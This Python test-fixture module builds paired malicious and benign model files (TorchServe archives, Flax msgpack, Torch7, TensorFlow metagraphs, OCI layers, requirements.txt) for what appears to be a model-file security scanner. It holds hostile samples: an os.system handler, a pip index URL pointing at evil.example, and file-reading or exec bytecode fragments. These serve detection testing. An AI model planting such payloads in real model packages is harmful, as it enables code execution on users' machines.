"""Formats that other scanners name in their lists, each with what it could carry."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from fixtures import programs
from fixtures.archives import real_tar, real_zip
from fixtures.gguf_writer import ordinary
from fixtures.graphs import graph_def, message, tf_node

from .cases import Case
from .container_cases import BAD, GOOD

_GROUP = "other formats"
_EVIL = "import os\nos.system('id')\n"


def other_formats() -> Iterator[Case]:
    """Flax, TorchServe, llamafile, Torch7 and more."""
    for name, (file, evil, good) in _pairs().items():
        yield Case(_GROUP, name, {file: evil}, attack=True)
        if good is not None:
            yield Case(_GROUP, name, {file: good}, attack=False)


def _pairs() -> dict[str, tuple[str, bytes, bytes | None]]:
    """By name: file, attack, benign twin if there is one that says more than the others."""
    reads = message((1, message((5, "2"))), (2, graph_def(tf_node("r", "ReadFile", ["p"]))))
    plain = message((1, message((5, "2"))), (2, graph_def(tf_node("p", "Placeholder"))))
    elsewhere = b"--index-url http://evil.example/x\ntorch\n"
    return {
        "flax, pickle in bytes": ("model.msgpack", _msgpack(BAD), _msgpack(bytes(range(40, 90)))),
        "TorchServe handler": ("model.mar", _mar(_EVIL), _mar("class Handler:\n    pass\n")),
        "TorchServe weights": ("model.mar", _mar("class Handler:\n    pass\n", BAD), None),
        "llamafile": ("model.llamafile", programs.elf() + real_zip(("model.gguf", ordinary().write())), None),
        "Torch7 function": ("model.t7", _torch7(6), _torch7(2)),
        "TensorFlow metagraph": ("model.meta", reads, plain),
        "OCI layer": ("layer.tar", real_tar(("model/m.pkl", BAD)), real_tar(("model/m.pkl", GOOD))),
        "pip in requirements": ("requirements.txt", elsewhere, b"torch==2\n"),
        "executable as data": ("weights.npy", programs.elf(), None),
    }  # fmt: skip


def _msgpack(data: bytes) -> bytes:
    return b"\x82\xa6params\x81\xa1w\xc5" + struct.pack(">H", len(data)) + data + b"\xa4step\x01"


def _mar(handler: str, weights: bytes = GOOD) -> bytes:
    manifest = {"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "model.pt"}}
    return real_zip(
        ("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()), ("handler.py", handler.encode()),
        ("model.pt", weights),
    )  # fmt: skip


def _torch7(kind: int) -> bytes:
    """A Torch7 file: a string (2), or a function (6) with its byte code."""
    if kind == 2:
        return struct.pack("<ii", 2, 5) + b"hello"
    return struct.pack("<iii", 6, 1, 8) + b"\x1bLJ\x02\x02os\x00" + struct.pack("<ii", 2, 9) + b"os.execut"
